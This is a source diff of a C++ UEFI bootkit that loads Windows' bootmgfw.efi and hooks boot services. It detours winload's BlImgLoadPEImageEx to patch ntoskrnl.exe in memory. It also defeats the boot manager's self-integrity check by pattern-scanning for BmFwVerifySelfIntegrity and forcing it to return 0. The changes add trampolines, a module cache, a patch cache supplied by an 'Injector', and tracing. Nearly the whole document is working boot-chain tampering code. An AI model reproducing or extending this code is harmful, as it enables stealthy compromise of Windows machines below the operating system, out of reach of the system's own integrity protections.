@@ -1,38 +1,59 @@
 #include "Efi.hpp"
+#include "Arena.hpp"
+#include "ImageHandlers.hpp"
+#include "ModuleCache.hpp"
+#include "PatchBootmgfw.hpp"
+#include "PatchCache.hpp"
 #include "PatchNtoskrnl.hpp"
+#include "Trace.hpp"
+#include "Trampoline.hpp"
 
-static bool IsNtoskrnl(const wchar_t* ImageName)
+static bool NtoskrnlLoaded(void* ImageBase, uint64_t ImageSize)
 {
-    constexpr wchar_t Ntoskrnl[] = L"ntoskrnl.exe";
-    constexpr size_t NtoskrnlLen = ARRAY_SIZE(Ntoskrnl) - 1;
+    PatchNtoskrnl(ImageBase, ImageSize);
 
-    auto ImageNameLen = wcslen(ImageName);
-    if (ImageNameLen < NtoskrnlLen)
-    {
-        return false;
-    }
+    // Nothing transient is needed once the kernel is patched, there are no boot services to free the pages with
+    ArenaReset(gTransientArena);
 
-    return memcmp(&ImageName[ImageNameLen - NtoskrnlLen], Ntoskrnl, NtoskrnlLen * sizeof(wchar_t)) == 0;
+    // The kernel is only loaded once
+    return true;
 }
 
 typedef EFI_STATUS (*BlImgLoadPEImageEx_t)(void*, void*, wchar_t*, void**, uint64_t*, void*, void*, void*, void*, void*, void*, void*, void*, void*);
 static BlImgLoadPEImageEx_t BlImgLoadPEImageEx = nullptr;
+static BlImgLoadPEImageEx_t BlImgLoadPEImageExTrampoline = nullptr;
 static uint8_t BlImgLoadPEImageExOriginal[DetourSize];
 
 static EFI_STATUS BlImgLoadPEImageExHook(void* a1, void* a2, wchar_t* LoadFile, void** ImageBase, uint64_t* ImageSize, void* a6, void* a7, void* a8, void* a9, void* a10, void* a11, void* a12, void* a13, void* a14)
 {
-    // Call original BlImgLoadPEImageEx
-    DetourRestore(BlImgLoadPEImageEx, BlImgLoadPEImageExOriginal);
+    auto TraceStart = TraceBegin();
+    TraceCount(TraceBlImgLoadPEImageExCalls);
+
+    EFI_STATUS Status;
+    if (BlImgLoadPEImageExTrampoline != nullptr)
+    {
+        // The detour stays in place, so nested loads are seen too
+        Status = BlImgLoadPEImageExTrampoline(a1, a2, LoadFile, ImageBase, ImageSize, a6, a7, a8, a9, a10, a11, a12, a13, a14);
+    }
+    else
+    {
+        // Call original BlImgLoadPEImageEx
+        DetourRestore(BlImgLoadPEImageEx, BlImgLoadPEImageExOriginal);
 
-    auto Status =
-        BlImgLoadPEImageEx(a1, a2, LoadFile, ImageBase, ImageSize, a6, a7, a8, a9, a10, a11, a12, a13, a14);
+        Status =
+            BlImgLoadPEImageEx(a1, a2, LoadFile, ImageBase, ImageSize, a6, a7, a8, a9, a10, a11, a12, a13, a14);
 
-    DetourCreate(BlImgLoadPEImageEx, BlImgLoadPEImageExHook, BlImgLoadPEImageExOriginal);
+        DetourCreate(BlImgLoadPEImageEx, BlImgLoadPEImageExHook, BlImgLoadPEImageExOriginal);
+    }
 
-    // Check if loaded file is ntoskrnl and patch it
-    if (!EFI_ERROR(Status) && IsNtoskrnl(LoadFile))
+    if (!EFI_ERROR(Status))
     {
-        PatchNtoskrnl(*ImageBase, *ImageSize);
+        TraceCount(TraceImagesSeen);
+
+        // Patch the image if it has a handler (ntoskrnl)
+        DispatchImageLoad(LoadFile, *ImageBase, *ImageSize);
+
+        TraceEnd(TraceBlImgLoadPEImageEx, TraceStart, 0, *ImageSize);
     }
 
     return Status;
@@ -44,19 +65,41 @@ static EFI_STATUS EFIAPI OpenProtocolHook(EFI_HANDLE Handle, EFI_GUID* Protocol,
 {
     auto Status = OpenProtocol(Handle, Protocol, Interface, AgentHandle, ControllerHandle, Attributes);
 
-    // Find the calling module's image base
-    if (auto ImageBase = FindImageBase((uint64_t)_ReturnAddress()))
+    auto TraceStart = TraceBegin();
+    TraceCount(TraceOpenProtocolCalls);
+
+    // Find the calling module, the export lookup only has to be done once per module
+    size_t PagesProbed = 0;
+    auto Module = FindModule((uint64_t)_ReturnAddress(), &PagesProbed);
+    TraceCount(TraceFindImageBasePages, PagesProbed);
+
+    if (Module != nullptr && !Module->Probed)
     {
+        Module->Probed = true;
+
         // Find and hook BlImgLoadPEImageEx
-        if (auto BlImgLoadPEImageExExport = GetExport(ImageBase, "BlImgLoadPEImageEx", "winload.sys"))
+        if (auto BlImgLoadPEImageExExport = GetExport(Module->ImageBase, "BlImgLoadPEImageEx", FNV1A("winload.sys")))
         {
             BlImgLoadPEImageEx = (BlImgLoadPEImageEx_t)BlImgLoadPEImageExExport;
 
-            DetourCreate(BlImgLoadPEImageEx, BlImgLoadPEImageExHook, BlImgLoadPEImageExOriginal);
+            // Allocate what the patches need while boot services are still usable, without it ntoskrnl is left alone
+            if (InitializePatchEngine())
+            {
+                RegisterImageHandler(FNV1A("ntoskrnl.exe"), NtoskrnlLoaded);
+
+                // Fall back to restoring the original bytes around every call if the prologue cannot be relocated
+                BlImgLoadPEImageExTrampoline = DetourAttach(BlImgLoadPEImageEx, BlImgLoadPEImageExHook, AllocateTrampoline());
+                if (BlImgLoadPEImageExTrampoline == nullptr)
+                {
+                    DetourCreate(BlImgLoadPEImageEx, BlImgLoadPEImageExHook, BlImgLoadPEImageExOriginal);
+                }
+            }
 
             // Restore original boot services
             gBS->OpenProtocol = OpenProtocol;
         }
+
+        TraceEnd(TraceOpenProtocolHook, TraceStart, 0, PagesProbed);
     }
 
     return Status;
@@ -64,65 +107,51 @@ static EFI_STATUS EFIAPI OpenProtocolHook(EFI_HANDLE Handle, EFI_GUID* Protocol,
 
 static void HookBootServices()
 {
+    // Optional, the module cache falls back to FindImageBase without it
+    InitializeArena(gTransientArena, TransientArenaSize);
+
+    // Resolve the hook's callers from the loaded image list instead of walking pages
+    InitializeModuleCache();
+
     // Hook open protocol (called via BlInitializeLibrary -> ... -> EfiOpenProtocol)
     OpenProtocol = gBS->OpenProtocol;
     gBS->OpenProtocol = OpenProtocolHook;
 }
 
-static void PatchSelfIntegrity(void* ImageBase, uint64_t ImageSize)
-{
-    /*
-    bootmgfw!BmFwVerifySelfIntegrity
-    .text:000000001002AE5C 89 4C 24 08           mov     [rsp-30h+arg_0], ecx
-    .text:000000001002AE60 55                    push    rbp
-    .text:000000001002AE61 53                    push    rbx
-    .text:000000001002AE62 56                    push    rsi
-    .text:000000001002AE63 57                    push    rdi
-    .text:000000001002AE64 41 55                 push    r13
-    .text:000000001002AE66 41 56                 push    r14
-    .text:000000001002AE68 48 8B EC              mov     rbp, rsp
-    .text:000000001002AE6B 48 83 EC 68           sub     rsp, 68h
-    .text:000000001002AE6F 48 8B 05 FA 71 13 00  mov     rax, cs:BootDevice
-    .text:000000001002AE76 33 FF                 xor     edi, edi
-    .text:000000001002AE78 48 83 65 C8 00        and     qword ptr [rbp+Device.Type], 0
-    .text:000000001002AE7D 48 83 65 48 00        and     [rbp+arg_10], 0
-    We try to find this:
-    .text:000000001002AE82 83 4D 38 FF           or      [rbp+arg_0], 0FFFFFFFFh
-    .text:000000001002AE86 83 4D 40 FF           or      [rbp+a1], 0FFFFFFFFh
-    */
-    auto VerifySelfIntegrityMid = FIND_PATTERN(ImageBase, ImageSize, "\x83\x4D\xCC\xFF\x83\x4D\xCC\xFF");
-    ASSERT(VerifySelfIntegrityMid != nullptr);
-
-    auto BmFwVerifySelfIntegrity = FindFunctionStart(ImageBase, VerifySelfIntegrityMid);
-    ASSERT(BmFwVerifySelfIntegrity != nullptr);
-
-    PatchReturn0(BmFwVerifySelfIntegrity);
-}
-
 static EFI_STATUS LoadBootManager()
 {
-    // Query bootmgfw from the filesystem
-    EFI_DEVICE_PATH* BootmgfwPath = nullptr;
-    auto Status = EfiQueryDevicePath(L"\\EFI\\Microsoft\\Boot\\bootmgfw.efi", &BootmgfwPath);
-    if (EFI_ERROR(Status))
+    // The device path lookup allocates from the transient arena
+    if (!InitializeArena(gTransientArena, TransientArenaSize))
     {
-        return Status;
+        return EFI_OUT_OF_RESOURCES;
     }
 
-    // Load the boot manager
     EFI_HANDLE BootmgfwHandle = nullptr;
-    Status = gBS->LoadImage(TRUE, gImageHandle, BootmgfwPath, nullptr, 0, &BootmgfwHandle);
-    gBS->FreePool(BootmgfwPath);
-    if (EFI_ERROR(Status))
     {
-        return Status;
+        // The device path is freed once the image is loaded
+        ArenaScope Scope(gTransientArena);
+
+        // Query bootmgfw from the filesystem
+        EFI_DEVICE_PATH* BootmgfwPath = nullptr;
+        auto Status = EfiQueryDevicePath(L"\\EFI\\Microsoft\\Boot\\bootmgfw.efi", &BootmgfwPath);
+        if (EFI_ERROR(Status))
+        {
+            return Status;
+        }
+
+        // Load the boot manager
+        Status = gBS->LoadImage(TRUE, gImageHandle, BootmgfwPath, nullptr, 0, &BootmgfwHandle);
+        if (EFI_ERROR(Status))
+        {
+            return Status;
+        }
     }
 
     // Install boot services hook
     HookBootServices();
 
     // Start the boot manager
-    Status = gBS->StartImage(BootmgfwHandle, nullptr, nullptr);
+    auto Status = gBS->StartImage(BootmgfwHandle, nullptr, nullptr);
     if (EFI_ERROR(Status))
     {
         gBS->UnloadImage(BootmgfwHandle);
@@ -135,6 +164,9 @@ EFI_STATUS EFIAPI EfiEntry(EFI_HANDLE ImageHandle, EFI_SYSTEM_TABLE* SystemTable
 {
     EfiInitializeGlobals(ImageHandle, SystemTable);
 
+    // Tracing is optional, the bootkit works without it
+    InitializeTrace();
+
     // Get the EFI image base
     EFI_LOADED_IMAGE* EfiImage = nullptr;
     auto Status = gBS->HandleProtocol(ImageHandle, &gEfiLoadedImageProtocolGuid, (void**)&EfiImage);
@@ -150,13 +182,20 @@ EFI_STATUS EFIAPI EfiEntry(EFI_HANDLE ImageHandle, EFI_SYSTEM_TABLE* SystemTable
     auto ImageBase = &__ImageBase;
     if (EfiImage->ImageBase != ImageBase)
     {
-        // Fix relocations manually
+        // Fix relocations manually, the Injector pre-relocates the bootkit and the firmware
+        // applies its relocations together with bootmgfw's, so the delta is zero then
         auto NtHeaders = GetNtHeaders(ImageBase);
         auto NtImageBase = NtHeaders->OptionalHeader.ImageBase;
-        auto OriginalImageSize = (uint8_t*)EfiImage->ImageBase - (uint8_t*)ImageBase;
+        auto OriginalImageSize = (uint8_t*)ImageBase - (uint8_t*)EfiImage->ImageBase;
 
+        auto TraceStart = TraceBegin();
         if (FixRelocations(ImageBase, (uint64_t)ImageBase - (uint64_t)NtImageBase))
         {
+            TraceEnd(TraceFixRelocations, TraceStart);
+
+            // The Injector stores the offline resolved patch sites in front of the bootkit image
+            SetPatchCache(RVA<const PatchCache*>(ImageBase, -(int64_t)PatchCacheOffset));
+
             // Patch self integrity checks
             PatchSelfIntegrity(EfiImage->ImageBase, OriginalImageSize);
 